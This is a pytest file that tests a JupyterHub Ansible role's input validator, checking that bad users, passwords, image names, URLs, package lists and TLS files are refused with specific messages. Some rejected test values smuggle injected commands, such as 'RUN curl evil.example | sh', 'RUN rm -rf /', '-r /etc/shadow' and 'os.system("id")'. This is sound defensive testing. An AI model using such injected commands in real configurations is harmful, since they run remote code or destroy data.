"""The rules of the role's variables (filter_plugins/quickjh_checks.py, users' rules from quickjh-users): each bad
input gives its message, naming the value, and good input gives none."""

from __future__ import annotations

import io
import json
import tarfile

import pytest
import yaml

import quickjh_checks as checks
from conftest import ROOT

DEFAULTS = yaml.safe_load((ROOT / "roles/quickjh/defaults/main.yml").read_text())
OK_PW = "long-enough-pw"


def problems(**settings) -> list[str]:
    return checks.quickjh_problems(dict(DEFAULTS, **settings))


BAD_USERS = [
    ([{"name": "User5", "password": OK_PW}], "user 'User5' is not a valid Linux user name"),
    ([{"name": "5user", "password": OK_PW}], "user '5user' is not a valid Linux user name"),
    ([{"name": "-user", "password": OK_PW}], "user '-user' is not a valid Linux user name"),
    ([{"name": "a user", "password": OK_PW}], "user 'a user' is not a valid Linux user name"),
    ([{"name": "user\n", "password": OK_PW}], "user 'user\\n' is not a valid Linux user name"),
    ([{"name": "u" * 33, "password": OK_PW}], f"user '{'u' * 33}' is not a valid Linux user name"),
    ([{"name": "daemon", "password": OK_PW}], "user 'daemon' is a name the image uses for itself"),
    ([{"name": "nobody", "password": OK_PW}], "user 'nobody' is a name the image uses for itself"),
    (
        [{"name": "twin", "password": OK_PW}, {"name": "twin", "password": OK_PW}],
        "user 'twin' is listed more than once",
    ),
    (
        [{"name": "both", "password": OK_PW, "password_hash": "$6$abcdefgh$" + "x" * 86}],
        "user 'both' needs exactly one of password and password_hash",
    ),
    ([{"name": "neither"}], "user 'neither' needs exactly one of password and password_hash"),
    ([{"name": "samename", "password": "samename"}], "user 'samename' has a password equal to the user name"),
    ([{"name": "shorty", "password": "abc1234"}], "user 'shorty' has a password shorter than 8 characters"),
    ([{"name": "longy", "password": "é" * 257}], "user 'longy' has a password longer than 512 bytes"),
    ([{"name": "hashy", "password_hash": "plaintext"}], "user 'hashy' has a password_hash that is not a crypt(3) hash"),
    ([{"name": "hashnl", "password_hash": "$6$abcdefgh$xyz\n"}], "user 'hashnl' has a password_hash that is not"),
    ([{"name": "lowuid", "password": OK_PW, "uid": 999}], "user 'lowuid' has uid 999, outside 1000-60000"),
    ([{"name": "highuid", "password": OK_PW, "uid": 60001}], "user 'highuid' has uid 60001, outside 1000-60000"),
    (
        [{"name": "uida", "password": OK_PW, "uid": 3000}, {"name": "uidb", "password": OK_PW, "uid": 3000}],
        "user 'uida' has uid 3000, which another listed user has too",
    ),
    ([{"name": "grouper", "password": OK_PW, "groups": ["Data"]}], "user 'grouper' has an invalid group name 'Data'"),
    ([{"name": "quoted", "password": OK_PW, "admin": "false"}], "user 'quoted' has admin: 'false', which is not true"),
    ([{"name": "numbered", "password": OK_PW, "locked": 0}], "user 'numbered' has locked: 0, which is not true or"),
    ([{"name": "wordy", "state": "absent", "remove_home": "yes"}], "user 'wordy' has remove_home: 'yes', which is"),
    ([{"name": "newline", "password": "long-enough\nroot:owned"}], "user 'newline' has a password with a control"),
    ([{"name": "tabby", "password": "long\tenough-pw"}], "user 'tabby' has a password with a control character"),
    *[
        (
            [{"name": "power", "password": OK_PW, "groups": [group]}],
            f"user 'power' has group '{group}', a group of the image that carries rights",
        )
        for group in ("sudo", "root", "shadow", "adm", "disk", "docker", "staff")
    ],
    (
        [{"name": "ann", "password": OK_PW}, {"name": "peek", "password": OK_PW, "groups": ["ann"]}],
        "user 'peek' has group 'ann', the own group of a user",
    ),
]


@pytest.mark.parametrize("users,message", BAD_USERS, ids=[u[-1]["name"][:12] for u, _ in BAD_USERS])
def test_each_bad_user_entry_is_refused_with_its_message(users, message):
    found = problems(quickjh_users=[{"name": "fine", "password": OK_PW}] + users)
    assert any(message in p for p in found), found
    assert all(p.startswith("quickjh_users: ") and "'fine'" not in p for p in found)


def test_a_good_list_has_no_problems_and_absent_users_need_no_password():
    users = [
        {"name": "admin", "password": OK_PW, "admin": True},
        {"name": "u_2-b", "password_hash": "$y$j9T$abcdefgh"},
        {"name": "gone", "state": "absent"},
        {"name": "fixed", "password": OK_PW, "uid": 60000, "groups": ["data"]},
    ]
    assert problems(quickjh_users=users) == []


def test_weak_passwords_pass_when_allowed_even_as_the_string_from_the_command_line():
    weak = [{"name": "weakling", "password": "weak"}]
    assert problems(quickjh_users=weak, quickjh_allow_weak_passwords="true") == []
    assert problems(quickjh_users=weak, quickjh_allow_weak_passwords="false")
    assert problems(quickjh_users=[{"name": "x", "password": "12345"}], quickjh_min_password_length="5") == []


def test_values_yaml_gives_as_numbers_or_null_are_checked_not_crashed_on():
    assert problems(quickjh_log_max_size=10, quickjh_mem_limit=8, quickjh_pip_packages=[2]) == []
    assert problems(quickjh_log_max_size=None) == ["quickjh_log_max_size: None is not a size like 10m"]
    assert problems(quickjh_users=[{"name": "numbers", "password": 12345678}]) == []
    assert problems(quickjh_users=[{"name": "numbers", "password": 1234}])


def test_every_problem_is_reported_at_once():
    found = problems(quickjh_users=[{"name": "Bad"}, {"name": "root", "password": "root"}])
    assert len(found) == 4, found


BAD_SETTINGS = [
    (
        {
            "quickjh_tls": "acme",
            "quickjh_tls_names": ["hub.example.org"],
            "quickjh_subdomain_host": "https://hub.example.org",
        },
        "quickjh_subdomain_host with quickjh_tls acme: each user's NAME.host",
    ),
    ({"quickjh_subdomain_host": "hub.example.org"}, "quickjh_subdomain_host: 'hub.example.org' is not the hub's"),
    ({"quickjh_subdomain_host": "https://10.0.0.1:8000"}, "is not the hub's address"),
    ({"quickjh_subdomain_host": "https://hub.example.org/jupyter/"}, "is not the hub's address"),
    ({"quickjh_base_image": "debian:trixie\nRUN curl evil.example | sh"}, "quickjh_base_image: 'debian:trixie\\nRUN"),
    ({"quickjh_base_image": "Debian Trixie"}, "is not an image reference"),
    ({"quickjh_base_image": "debian:tag:again"}, "is not an image reference"),
    ({"quickjh_pip_index_url": "ftp://index"}, "not an http(s):// URL: ftp://index"),
    ({"quickjh_https_proxy": "http://proxy:3128\n"}, "not an http(s):// URL: http://proxy:3128\n"),
    ({"quickjh_pip_extra_index_urls": ["https://ok", "nope"]}, "not an http(s):// URL: nope"),
    ({"quickjh_pip_packages": ["numpy", "-r /etc/shadow"]}, "not a package name: -r /etc/shadow"),
    ({"quickjh_apt_packages": ["git\nRUN rm -rf /"]}, "not a package name: git\nRUN rm -rf /"),
    (
        {"quickjh_tls": "files", "quickjh_tls_cert": "hub.crt"},
        "quickjh_tls is files: set quickjh_tls_cert and quickjh_tls_key",
    ),
    ({"quickjh_mem_limit": "8 GB"}, "quickjh_mem_limit: 8 GB is not a size like 8g"),
    ({"quickjh_user_mem_limit": "lots"}, "quickjh_user_mem_limit: lots is not a size like 2g"),
    ({"quickjh_log_max_size": ""}, "quickjh_log_max_size:  is not a size like 10m"),
    ({"quickjh_cull_every": 0}, "quickjh_cull_every must be 0 or more"),
    ({"quickjh_cpus": "-1"}, "quickjh_cpus and quickjh_log_max_files more than 0"),
    ({"quickjh_restore_archive": "backups/hub.tar.gz"}, "quickjh_restore_archive must be the absolute path"),
    ({"quickjh_default_url": '/lab"\nimport os; os.system("id")'}, "quickjh_default_url: '/lab\"\\nimport os;"),
    ({"quickjh_default_url": "lab"}, "quickjh_default_url: 'lab' is not a page of the user's server"),
    ({"quickjh_user_max_processes": -1}, "quickjh_user_max_processes and quickjh_pids_limit must be 0"),
    ({"quickjh_base_url": "jupyter/"}, "quickjh_base_url: 'jupyter/' is not a path like / or /jupyter/"),
    ({"quickjh_base_url": "/my hub/"}, "quickjh_base_url: '/my hub/' is not a path"),
    ({"quickjh_base_url": '/x"\nimport os'}, "quickjh_base_url: '/x\"\\nimport os' is not a path"),
    ({"quickjh_base_url": "//evil.example/"}, "quickjh_base_url: '//evil.example/' is not a path"),
    ({"quickjh_base_url": "/jupyter/../"}, "quickjh_base_url: '/jupyter/../' is not a path"),
    ({"quickjh_base_url": "/./"}, "quickjh_base_url: '/./' is not a path"),
    (
        {"quickjh_shared_folders": [{"name": "Data", "group": "analysts"}]},
        "quickjh_shared_folders: shared folder 'Data' is not a valid folder name",
    ),
    ({"quickjh_shared_folders": [{"name": "../etc", "group": "analysts"}]}, "shared folder '../etc' is not a valid"),
    (
        {"quickjh_shared_folders": [{"name": "data", "group": "a"}, {"name": "data", "group": "b"}]},
        "shared folder 'data' is listed more than once",
    ),
    (
        {"quickjh_shared_folders": [{"name": "data", "group": "sudo"}]},
        "shared folder 'data' has group 'sudo', a group of the image that carries rights",
    ),
    (
        {
            "quickjh_shared_folders": [{"name": "data", "group": "ann"}],
            "quickjh_users": [{"name": "ann", "password": OK_PW}],
        },
        "shared folder 'data' has group 'ann', the own group of a user",
    ),
    (
        {"quickjh_collaboration": True, "quickjh_jupyterhub_version": "5.5.4"},
        "quickjh_collaboration needs JupyterHub 6 or later (its users' sharing scopes): quickjh_jupyterhub_version is "
        "'5.5.4'",
    ),
]


@pytest.mark.parametrize("settings,message", BAD_SETTINGS, ids=[next(iter(s)) for s, _ in BAD_SETTINGS])
def test_each_bad_setting_is_refused_with_its_message(settings, message):
    assert any(message in p for p in problems(**settings)), problems(**settings)


def certificate(folder, days=30, key=None, names=()):
    """A self-signed certificate and its key (or another key's) as files in folder, with these DNS names or IP
    addresses: (cert path, key path)."""
    import datetime
    import ipaddress

    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec

    own, other = ec.generate_private_key(ec.SECP256R1()), ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(x509.oid.NameOID.COMMON_NAME, "hub.example.org")])
    now = datetime.datetime.now(datetime.UTC)
    cert = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(own.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - datetime.timedelta(days=60))
        .not_valid_after(now + datetime.timedelta(days=days))
    )
    if names:
        sans = []
        for n in names:
            try:
                sans.append(x509.IPAddress(ipaddress.ip_address(n)))
            except ValueError:
                sans.append(x509.DNSName(n))
        cert = cert.add_extension(x509.SubjectAlternativeName(sans), critical=False)
    cert = cert.sign(own, hashes.SHA256())
    (folder / "hub.crt").write_bytes(cert.public_bytes(serialization.Encoding.PEM))
    (folder / "hub.key").write_bytes(
        (other if key == "other" else own).private_bytes(
            serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
        )
    )
    return str(folder / "hub.crt"), str(folder / "hub.key")


def test_certificate_files_must_be_a_pair_valid_now(tmp_path):
    for case in ("good", "other", "expired", "missing"):
        (tmp_path / case).mkdir()
    assert checks.certificate_problems(*certificate(tmp_path / "good")) == []
    cert, key = certificate(tmp_path / "other", key="other")
    assert checks.certificate_problems(cert, key) == [
        f"quickjh_tls_cert {cert}: not the certificate of quickjh_tls_key {key}"
    ]
    assert "expired on" in checks.certificate_problems(*certificate(tmp_path / "expired", days=-1))[0]
    cert, _ = certificate(tmp_path / "missing")
    assert "not a PEM certificate and key" in checks.certificate_problems(cert, str(tmp_path / "none.key"))[0]


def test_the_defaults_and_common_good_settings_have_no_problems(tmp_path):
    cert, key = certificate(tmp_path)
    for host in ("https://hub.example.org", "https://hub.example.org:8000", "http://jupyter.team.internal:8443/"):
        assert problems(quickjh_subdomain_host=host) == [], host
    for image in (
        "debian:trixie-slim",
        "ubuntu:24.04",
        "registry.example.org:5000/team/base:1.0",
        "python:3.13-slim@sha256:" + "a" * 64,
        "localhost/quickjh-base",
    ):
        assert problems(quickjh_base_image=image) == [], image
    assert problems() == []
    assert problems(quickjh_default_url="/lab/tree/README.ipynb", quickjh_user_max_processes=0) == []
    assert problems(quickjh_base_url="/jupyter/", quickjh_shared_folders=[{"name": "data", "group": "analysts"}]) == []
    assert problems(quickjh_base_url="/team/hub") == []  # the role adds the last slash
    assert problems(quickjh_base_url="/team.hub/v1.2/") == []
    assert (
        problems(
            quickjh_pip_packages=["scikit-learn==1.7.*", "pandas[excel]>=2", "cowsay==6.1"],
            quickjh_apt_packages=["git", "r-base"],
            quickjh_mem_limit="8g",
            quickjh_cpus=1.5,
            quickjh_pip_index_url="https://pypi.example.org/simple",
            quickjh_tls="files",
            quickjh_tls_cert=cert,
            quickjh_tls_key=key,
            quickjh_restore_archive="/var/backups/quickjh/x.tar.gz",
        )
        == []
    )


def test_plain_http_beyond_the_host_is_warned_about_and_loopback_or_https_is_not():
    assert "plain HTTP" in " ".join(checks.warnings(dict(DEFAULTS, quickjh_tls="off"), https=False))
    assert checks.warnings(dict(DEFAULTS, quickjh_tls="off", quickjh_bind_address="127.0.0.1"), https=False) == []
    assert checks.warnings(DEFAULTS, https=True) == []  # self-signed HTTPS by default


def saved(path, manifest) -> str:
    """A file laid out as `docker save` writes it (manifest.json names the images), at path."""
    body = json.dumps(manifest).encode()
    with tarfile.open(path, "w") as tar:
        info = tarfile.TarInfo("manifest.json")
        info.size = len(body)
        tar.addfile(info, io.BytesIO(body))
    return str(path)


def test_image_archives_are_read_for_their_image_names_and_bad_ones_are_named(tmp_path):
    base = saved(tmp_path / "base.tar", [{"RepoTags": ["debian:trixie-slim"]}, {"RepoTags": ["x:1", "x:latest"]}])
    assert checks.archive_images(base) == ["debian:trixie-slim", "x:1", "x:latest"]
    assert problems(quickjh_image_archives=[base]) == []
    (tmp_path / "notes.txt").write_text("not a tar")
    bad = {
        "relative.tar": "'relative.tar' is not an absolute path on the controller",
        str(tmp_path / "gone.tar"): "gone.tar' is not a `docker save` archive of named images",
        str(tmp_path / "notes.txt"): "notes.txt' is not a `docker save` archive",
        saved(tmp_path / "unnamed.tar", [{"RepoTags": None}]): "unnamed.tar' is not a `docker save` archive",
        saved(tmp_path / "odd.tar", {"RepoTags": "x"}): "odd.tar' is not a `docker save` archive",
    }
    found = problems(quickjh_image_archives=list(bad))
    assert len(found) == len(bad), found
    for message, problem in zip(bad.values(), found, strict=True):
        assert message in problem and problem.startswith("quickjh_image_archives: "), problem


def test_only_archives_holding_a_missing_image_are_to_be_loaded(tmp_path):
    base = saved(tmp_path / "base.tar", [{"RepoTags": ["debian:trixie-slim"]}])
    both = saved(tmp_path / "both.tar", [{"RepoTags": ["debian:trixie-slim"]}, {"RepoTags": ["r:4"]}])
    assert checks.archives_lacking([base, both], ["debian:trixie-slim"]) == [both]
    assert checks.archives_lacking([base, both], ["debian:trixie-slim", "r:4"]) == []
    assert checks.archives_lacking([base, both], []) == [base, both]


def test_image_archives_are_not_needed_to_take_the_hub_down():
    assert problems(quickjh_image_archives=["/gone/base.tar"], quickjh_state="absent") == []


DOCKER = {"quickjh_spawner": "docker"}
TOOLS = {"name": "tools", "apt_packages": ["figlet"], "pip_packages": ["pyfiglet==1.0.4"]}


@pytest.mark.parametrize(
    "settings,message",
    [
        ({"quickjh_user_cpus": -1, **DOCKER}, "quickjh_user_cpus must be 0 (no limit) or more; got -1"),
        ({"quickjh_profiles": [dict(TOOLS, name="R")], **DOCKER}, "quickjh_profiles: 'R' is not a profile name"),
        ({"quickjh_profiles": [dict(TOOLS, name="a b")], **DOCKER}, "quickjh_profiles: 'a b' is not a profile name"),
        ({"quickjh_profiles": [TOOLS, TOOLS], **DOCKER}, "quickjh_profiles: 'tools' is listed more than once"),
        (
            {"quickjh_profiles": [dict(TOOLS, apt_packages=["--allow-unauthenticated"])], **DOCKER},
            "quickjh_profiles: 'tools': not a package name: --allow-unauthenticated",
        ),
    ],
)
def test_docker_mode_settings_are_checked(settings, message):
    found = problems(**settings)
    assert [p for p in found if message in p], found
    assert len(found) == 1, found


def test_docker_mode_with_limits_and_profiles_has_no_problems():
    assert (
        problems(
            quickjh_user_cpus=0.5, quickjh_user_mem_limit="600m", quickjh_profiles=[TOOLS, {"name": "r-4"}], **DOCKER
        )
        == []
    )


def test_docker_mode_settings_in_local_mode_are_warned_about_not_refused():
    assert problems(quickjh_user_cpus=1.5, quickjh_profiles=[TOOLS]) == []  # switching modes keeps the settings
    said = " ".join(checks.warnings(dict(DEFAULTS, quickjh_profiles=[TOOLS]), https=True))
    assert "quickjh_profiles do nothing with quickjh_spawner local" in said
    assert checks.warnings(dict(DEFAULTS, quickjh_profiles=[TOOLS], **DOCKER), https=True) == []


SWARM = {"quickjh_spawner": "swarm", "quickjh_swarm_workers": ["node2", "node3"], "inventory_hostname": "hub"}


@pytest.mark.parametrize(
    "settings,message",
    [
        (
            {"quickjh_users": [{"name": "ann", "password": OK_PW, "node": "node9"}], **SWARM},
            "'ann': node 'node9' is not the hub's host or one of quickjh_swarm_workers (hub, node2, node3)",
        ),
        (
            {"quickjh_users": [{"name": "ann", "password": OK_PW, "node": "node2"}]},
            "node: is for quickjh_spawner swarm; given for ann",
        ),
        (
            {"quickjh_shared_folders": [{"name": "data", "group": "analysts"}], **SWARM},
            "quickjh_shared_folders: swarm mode keeps each home on its user's node",
        ),
        ({"quickjh_homes_nfs": {"server": "nfs1", "export": "homes"}, **SWARM}, "quickjh_homes_nfs: needs server"),
        ({"quickjh_backup_schedule": "daily", **SWARM}, "quickjh_backup_schedule: the hub's scheduled backups"),
        ({"quickjh_swarm_subnet": "10.213.0.0/30", **SWARM}, "quickjh_swarm_subnet: '10.213.0.0/30' is not an IPv4"),
        ({"quickjh_swarm_subnet": "fd00::/64", **SWARM}, "quickjh_swarm_subnet: 'fd00::/64' is not an IPv4 subnet"),
    ],
)
def test_swarm_mode_settings_are_checked(settings, message):
    found = problems(**settings)
    assert [p for p in found if message in p], found
    assert len(found) == 1, found


def test_swarm_mode_with_nodes_given_and_nfs_homes_has_no_problems():
    users = [{"name": "ann", "password": OK_PW, "node": "hub"}, {"name": "bob", "password": OK_PW, "node": "node3"}]
    nfs = {"server": "nfs1.example.org", "export": "/srv/homes"}
    assert problems(quickjh_users=users, quickjh_homes_nfs=nfs, quickjh_user_cpus=0.5, **SWARM) == []


def test_the_hub_takes_the_last_address_of_the_swarms_subnet():
    assert checks.hub_address("10.213.0.0/24") == "10.213.0.254"
    assert checks.hub_address("172.30.0.0/16") == "172.30.255.254"
